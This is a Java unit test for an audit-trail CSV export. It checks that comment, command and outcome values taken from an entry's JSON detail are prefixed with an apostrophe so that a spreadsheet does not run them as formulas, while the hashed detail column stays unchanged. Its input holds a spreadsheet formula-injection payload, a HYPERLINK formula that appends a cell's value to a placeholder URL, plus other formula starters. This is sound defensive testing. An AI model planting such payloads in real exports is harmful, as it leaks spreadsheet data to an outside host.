package com.msgupgrade.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV export as a spreadsheet opens it. */
class AuditExportTest {

    @Test
    void aValueReadOutOfTheDetailIsNeverAFormulaAndTheHashedColumnsStayAsTheyAre() throws Exception {
        String detail = "{\"comment\":\"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"ok\\\")\",\"decision\":\"reject\","
                + "\"command\":\"@SUM(1)\",\"outcome\":\"-1\"}";
        AuditEntry entry = new AuditEntry("r-1", 1, Instant.parse("2026-11-30T10:00:00.120Z"), "approver1", "DECISION",
                "ms1", null, detail, AuditTrail.GENESIS, "h");
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new AuditExport().csv(List.of(entry)))).getRecords();
        CSVRecord row = records.get(0);
        assertThat(row.get("comment")).isEqualTo("'=HYPERLINK(\"http://x/?\"&A1,\"ok\")");
        assertThat(row.get("command")).isEqualTo("'@SUM(1)");
        assertThat(row.get("outcome")).isEqualTo("'-1");
        assertThat(row.get("decision")).isEqualTo("reject");
        assertThat(row.get("detail")).as("hashed as stored").isEqualTo(detail);
        assertThat(row.get("rolloutId")).isEqualTo("r-1");
        assertThat(row.get("recordedAt")).isEqualTo("2026-11-30T10:00:00.120Z");
    }
}
